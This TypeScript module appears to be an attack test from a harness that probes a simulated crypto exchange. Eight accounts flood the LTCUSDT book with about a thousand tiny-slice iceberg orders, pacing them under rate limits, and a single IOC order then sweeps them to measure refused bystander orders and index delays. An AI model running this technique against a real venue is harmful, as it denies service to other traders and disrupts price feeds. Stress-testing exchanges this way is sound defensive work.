/**
 * Accounts fill a price with as many icebergs of as many slices as they may, and one order sweeps them all. They gain if
 * that keeps others from trading, or the index from ticking.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import { AttackedVenue } from './attacked-venue.ts';
import { Bystander } from './bystander.ts';
import type { AttackResult } from './result.ts';

const ICEBERGS = 1_071;
const ACCOUNTS = 8;
/** Amount and slice in LTC: as many slices as the venue takes. */
const SHAPES = [
  { amount: '0.100', icebergAmount: '0.001' },
  { amount: '1.000', icebergAmount: '0.050' },
  { amount: '1.000', icebergAmount: '0.100' },
] as const;
const MARKET = 'LTCUSDT';
/** Of one account together: within its limit of orders a second. */
const AT_ONCE = 8;

async function bestAsk(venue: AttackedVenue): Promise<string> {
  const found = await venue.calls.must('initData', { type: 'depth', symbol: MARKET });
  // By its type the answer is a book.
  const { asks } = found as { readonly asks: readonly (readonly [price: string, amount: string])[] };
  const price = asks[0]?.[0];
  if (price === undefined) throw new Error('nobody quotes');
  return price;
}

let serial = 0;

/** Places icebergs until there are enough or no more are taken; answers how many, and the refusal that ended it. */
async function placeIcebergs(venue: AttackedVenue, token: string, price: string, wanted: number) {
  const refusals: Record<string, number> = {};
  let placed = 0;
  let shape = 0;
  while (placed < wanted && shape < SHAPES.length) {
    const answers = await Promise.all(
      Array.from({ length: Math.min(AT_ONCE, wanted - placed) }, () => {
        serial += 1;
        const order = { symbol: MARKET, direction: 'sell', type: 'limit', price, ...SHAPES[shape] };
        return venue.calls.call('submitOrder', { ...order, requestId: `iceberg-${serial}` }, token);
      }),
    );
    const refused = answers.flatMap(({ body }) => (body.data === null ? [body.error?.name ?? '?'] : []));
    placed += answers.length - refused.length;
    for (const name of refused) refusals[name] = (refusals[name] ?? 0) + 1;
    const isSlow = refused.includes('too-many-requests') || refused.includes('venue-unavailable');
    if (isSlow) await sleep(500);
    else if (refused.length > 0) shape += 1;
  }
  return { placed, refusals };
}

export async function attackBySweep(): Promise<AttackResult> {
  const venue = await AttackedVenue.open({ feed: 'simulated' });
  try {
    const bystander = await Bystander.enter(venue);
    const sellers: string[] = [];
    for (let index = 0; index < ACCOUNTS; index += 1) {
      const { satoken } = await venue.openAccount(`iceberg-${index}`, { LTC: '1000' });
      sellers.push(satoken);
    }
    const sweeper = await venue.openAccount('sweeper');
    const price = await bestAsk(venue);
    const each = Math.ceil(ICEBERGS / ACCOUNTS);
    const rows = await Promise.all(sellers.map((token) => placeIcebergs(venue, token, price, each)));
    const placed = rows.reduce((sum, row) => sum + row.placed, 0);
    const since = await venue.second();
    bystander.start();
    await sleep(1_000);
    const order = {
      symbol: MARKET,
      direction: 'buy',
      type: 'limit',
      timeInForce: 'IOC',
      price,
      amount: '1000',
    };
    const began = performance.now();
    const swept = await venue.calls.call('submitOrder', { ...order, requestId: 'sweep' }, sweeper.satoken);
    const took = ((performance.now() - began) / 1_000).toFixed(1);
    await sleep(10_000);
    await bystander.end();
    const refusals = Object.entries(Object.assign({}, ...rows.map((row) => row.refusals)));
    return {
      name: 'sweep of icebergs',
      gained: `${bystander.refusals} orders of another refused`,
      hasGained: bystander.refusals > 0,
      greatestGap: await venue.greatestGap('BTC', since),
      figures: [
        `${placed} icebergs of ${ACCOUNTS} accounts${refusals.length > 0 ? `, then ${refusals.map(([name]) => name).join(', ')}` : ''}`,
        `the sweep bought ${swept.body.data?.filledAmount ?? swept.body.error?.name} LTC in ${took} s`,
        bystander.figure,
      ],
    };
  } finally {
    await venue.close();
  }
}
